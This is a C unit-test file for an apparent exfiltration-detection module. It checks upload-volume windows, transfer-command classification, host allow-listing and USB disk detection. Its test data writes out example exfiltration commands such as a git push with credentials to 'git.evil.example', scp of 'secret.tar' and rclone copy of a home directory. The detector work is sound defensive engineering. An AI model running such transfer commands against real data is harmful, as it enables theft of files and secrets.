/* Unit tests for agent/exfil: the upload window, transfer command lines, the allow-list. */
#include "testing.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "exfil/exfil_allow.h"
#include "exfil/exfil_argv.h"
#include "exfil/exfil_removable.h"
#include "exfil/exfil_upload.h"

#define S 1000000000ull
#define MIB (1ull << 20)

TEST(upload_sums_within_window_and_reports_once)
{
	struct exfil_uploads u;
	struct exfil_upload_hit hit = { 0 };
	uint64_t t0 = 1000 * S;

	exfil_uploads_init(&u, 16, 600 * S, 100 * MIB);
	CHECK(!exfil_uploads_add(&u, 1, "a.example", 60 * MIB, t0, &hit));
	CHECK(!exfil_uploads_add(&u, 2, "a.example", 60 * MIB, t0, &hit)); /* another process */
	CHECK(!exfil_uploads_add(&u, 1, "b.example", 60 * MIB, t0, &hit)); /* another peer */
	CHECK(exfil_uploads_add(&u, 1, "a.example", 50 * MIB, t0 + 300 * S, &hit));
	CHECK(hit.bytes == 110 * MIB);
	CHECK(hit.first_ns <= t0 && hit.first_ns + 600 * S > t0);
	/* reported: not again within the window */
	CHECK(!exfil_uploads_add(&u, 1, "a.example", 200 * MIB, t0 + 400 * S, &hit));
	CHECK(u.n == 3);
	exfil_uploads_free(&u);
}

TEST(upload_old_bytes_leave_the_window)
{
	struct exfil_uploads u;
	struct exfil_upload_hit hit;
	uint64_t t0 = 5000 * S;

	exfil_uploads_init(&u, 16, 600 * S, 100 * MIB);
	CHECK(!exfil_uploads_add(&u, 1, "a", 90 * MIB, t0, &hit));
	/* 11 minutes later the 90 MiB are out of the window */
	CHECK(!exfil_uploads_add(&u, 1, "a", 20 * MIB, t0 + 660 * S, &hit));
	CHECK(exfil_uploads_add(&u, 1, "a", 85 * MIB, t0 + 700 * S, &hit));
	CHECK(hit.bytes == 105 * MIB);
	exfil_uploads_expire(&u, t0 + 1000 * S);
	CHECK(u.n == 1); /* bytes and its report still in the window */
	exfil_uploads_expire(&u, t0 + 9000 * S);
	CHECK(u.n == 0);
	exfil_uploads_free(&u);
}

TEST(upload_full_table_drops_and_counts)
{
	struct exfil_uploads u;
	struct exfil_upload_hit hit;

	exfil_uploads_init(&u, 2, 600 * S, 100 * MIB);
	exfil_uploads_add(&u, 1, "a", 1, 10 * S, &hit);
	exfil_uploads_add(&u, 2, "a", 1, 10 * S, &hit);
	exfil_uploads_add(&u, 3, "a", 1, 10 * S, &hit);
	CHECK(u.n == 2 && u.dropped == 1);
	/* an expired entry makes room */
	exfil_uploads_add(&u, 4, "a", 1, 2000 * S, &hit);
	CHECK(u.n == 1 && u.dropped == 1);
	exfil_uploads_free(&u);
}

static enum exfil_tool transfer(char *host, const char *a0, const char *a1, const char *a2,
				const char *a3, const char *a4)
{
	const char *argv[5] = { a0, a1, a2, a3, a4 };
	size_t argc = 0;

	while (argc < 5 && argv[argc])
		argc++;
	return exfil_transfer_of(argv, argc, host, EXFIL_HOST_MAX + 1);
}

TEST(transfer_command_lines)
{
	char h[EXFIL_HOST_MAX + 1];

	CHECK(transfer(h, "git", "push", "git://10.1.2.3/repo.git", "main", NULL) ==
	      EXFIL_TOOL_GIT_PUSH);
	CHECK_STR(h, "10.1.2.3");
	CHECK(transfer(h, "/usr/bin/git", "-C", "/src", "push", "origin") == EXFIL_TOOL_GIT_PUSH);
	CHECK_STR(h, ""); /* a remote's name: the connection will tell */
	CHECK(transfer(h, "git", "push", "-f", "https://me:secret@git.evil.example:8443/a/b.git",
		       NULL) == EXFIL_TOOL_GIT_PUSH);
	CHECK_STR(h, "git.evil.example");
	CHECK(transfer(h, "git", "push", "git@github.com:someone/repo.git", NULL, NULL) ==
	      EXFIL_TOOL_GIT_PUSH);
	CHECK_STR(h, "github.com");
	CHECK(transfer(h, "git", "pull", "origin", NULL, NULL) == EXFIL_TOOL_NONE);
	CHECK(transfer(h, "git", "-c", "push", "status", NULL) == EXFIL_TOOL_NONE);

	CHECK(transfer(h, "scp", "-P", "2222", "secret.tar", "user@[2001:db8::7]:/tmp/") ==
	      EXFIL_TOOL_SCP);
	CHECK_STR(h, "2001:db8::7");
	CHECK(transfer(h, "scp", "bob@files.example:/etc/x", ".", NULL, NULL) == EXFIL_TOOL_NONE);
	CHECK(transfer(h, "rsync", "-av", "-e", "ssh -p 22", "dir/") == EXFIL_TOOL_NONE);
	CHECK(transfer(h, "rsync", "-av", "dir/", "backup.example::module/path", NULL) ==
	      EXFIL_TOOL_RSYNC);
	CHECK_STR(h, "backup.example");
	CHECK(transfer(h, "rsync", "-a", "dir/", "rsync://u@mirror.example:873/m/", NULL) ==
	      EXFIL_TOOL_RSYNC);
	CHECK_STR(h, "mirror.example");
	CHECK(transfer(h, "rsync", "-a", "dir/", "./local:dir", NULL) == EXFIL_TOOL_NONE);
	CHECK(transfer(h, "rclone", "copy", "/home/me", "gdrive:backup", NULL) == EXFIL_TOOL_RCLONE);
	CHECK_STR(h, "");
	CHECK(transfer(h, "rclone", "copy", "gdrive:backup", "/home/me", NULL) == EXFIL_TOOL_NONE);
	CHECK(transfer(h, "rclone", "lsd", "gdrive:", NULL, NULL) == EXFIL_TOOL_NONE);
	CHECK(transfer(h, "sftp", "-P", "22", "me@drop.example", NULL) == EXFIL_TOOL_SFTP);
	CHECK_STR(h, "drop.example");
	CHECK(transfer(h, "cp", "a", "b:c", NULL, NULL) == EXFIL_TOOL_NONE);
}

TEST(remote_host_keeps_only_the_host)
{
	char h[64];

	CHECK(exfil_remote_host("ssh://u:pw@Host.Example:22/very/secret/path", h, sizeof(h)));
	CHECK_STR(h, "Host.Example");
	CHECK(!exfil_remote_host("file:///tmp/repo.git", h, sizeof(h)));
	CHECK(!exfil_remote_host("/tmp/a:b", h, sizeof(h)));
	CHECK(!exfil_remote_host("origin", h, sizeof(h)));
	CHECK(!exfil_remote_host(":path", h, sizeof(h)));
	CHECK(exfil_remote_host("me@[::1]:x", h, sizeof(h)));
	CHECK_STR(h, "::1");
	CHECK(exfil_remote_host("a:b@c:d", h, sizeof(h)));
	CHECK_STR(h, "c");
	CHECK(!exfil_remote_host("https://", h, sizeof(h)));
}

TEST(allow_list_names_and_cidrs)
{
	struct exfil_allow *l = calloc(1, sizeof(*l));
	uint8_t a[16] = { [10] = 0xff, [11] = 0xff, 10, 20, 30, 40 };
	char err[128];

	REQUIRE(l);
	CHECK(!exfil_allow_add(l, "git.company.example", err, sizeof(err)));
	CHECK(!exfil_allow_add(l, "10.0.0.0/8", err, sizeof(err)));
	CHECK(!exfil_allow_add(l, "2001:db8::/32", err, sizeof(err)));
	CHECK(!exfil_allow_add(l, "192.0.2.7", err, sizeof(err)));
	CHECK(exfil_allow_add(l, "10.0.0.0/33", err, sizeof(err)));
	CHECK(exfil_allow_add(l, "exa mple", err, sizeof(err)));
	CHECK(exfil_allow_add(l, "host.example/8", err, sizeof(err)));
	CHECK(exfil_allow_host(l, "git.company.example"));
	CHECK(exfil_allow_host(l, "EU.Git.Company.Example."));
	CHECK(!exfil_allow_host(l, "evilgit.company.example"));
	CHECK(!exfil_allow_host(l, "git.company.example.evil"));
	CHECK(exfil_allow_host(l, "10.9.9.9"));
	CHECK(!exfil_allow_host(l, "11.0.0.1"));
	CHECK(exfil_allow_host(l, "192.0.2.7"));
	CHECK(!exfil_allow_host(l, "192.0.2.8"));
	CHECK(exfil_allow_host(l, "2001:db8:1::1"));
	CHECK(!exfil_allow_host(l, "2001:db9::1"));
	CHECK(exfil_allow_addr(l, a));
	a[12] = 11;
	CHECK(!exfil_allow_addr(l, a));
	free(l);
}

static void write_file(const char *dir, const char *name, const char *text)
{
	char path[512];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	f = fopen(path, "w");
	if (f) {
		fputs(text, f);
		fclose(f);
	}
}

TEST(usb_disks_from_sysfs)
{
	char root[] = "/tmp/gw-exfil-sys-XXXXXX", cmd[2048], iface[256], usb[128];
	struct exfil_usb_disk d;

	REQUIRE(mkdtemp(root));
	snprintf(usb, sizeof(usb), "%s/devices/pci0000:00/usb2/2-3", root);
	snprintf(iface, sizeof(iface), "%s/2-3:1.0", usb);
	snprintf(cmd, sizeof(cmd),
		 "mkdir -p %s/host1/target1:0:0/1:0:0:0/block/sdb %s/devices/virtual/block/loop0 "
		 "%s/devices/pci0000:00/usb2/2-4/2-4:1.0/block/sdc %s/dev/block && "
		 "ln -s ../../devices/pci0000:00/usb2/2-3/2-3:1.0/host1/target1:0:0/1:0:0:0/block/sdb "
		 "%s/dev/block/8:16 && ln -s ../../devices/virtual/block/loop0 %s/dev/block/7:0 && "
		 "ln -s ../../devices/pci0000:00/usb2/2-4/2-4:1.0/block/sdc %s/dev/block/8:32",
		 iface, root, root, root, root, root, root);
	REQUIRE(system(cmd) == 0);
	write_file(iface, "bInterfaceClass", "08\n");
	write_file(usb, "idVendor", "0781\n");
	write_file(usb, "idProduct", "5583\n");
	write_file(usb, "product", "Ultra Fit\n");
	write_file(usb, "serial", "ABC123\n");
	snprintf(cmd, sizeof(cmd), "%s/devices/pci0000:00/usb2/2-4/2-4:1.0", root);
	write_file(cmd, "bInterfaceClass", "03\n"); /* not storage: a HID interface */

	CHECK(exfil_usb_disk_of(root, 8u << 20 | 16, &d));
	CHECK_STR(d.name, "sdb");
	CHECK(d.vid == 0x0781 && d.pid == 0x5583);
	CHECK_STR(d.product, "Ultra Fit");
	CHECK_STR(d.serial, "ABC123");
	CHECK(!exfil_usb_disk_of(root, 7u << 20, &d)); /* a loop device */
	CHECK(!exfil_usb_disk_of(root, 8u << 20 | 32, &d)); /* under a USB interface, not storage */
	CHECK(!exfil_usb_disk_of(root, 8u << 20 | 48, &d)); /* no such device */
	snprintf(cmd, sizeof(cmd), "rm -rf %s", root);
	CHECK(system(cmd) == 0);
}

int main(void)
{
	RUN(upload_sums_within_window_and_reports_once);
	RUN(upload_old_bytes_leave_the_window);
	RUN(upload_full_table_drops_and_counts);
	RUN(transfer_command_lines);
	RUN(remote_host_keeps_only_the_host);
	RUN(allow_list_names_and_cidrs);
	RUN(usb_disks_from_sysfs);
	return test_summary();
}
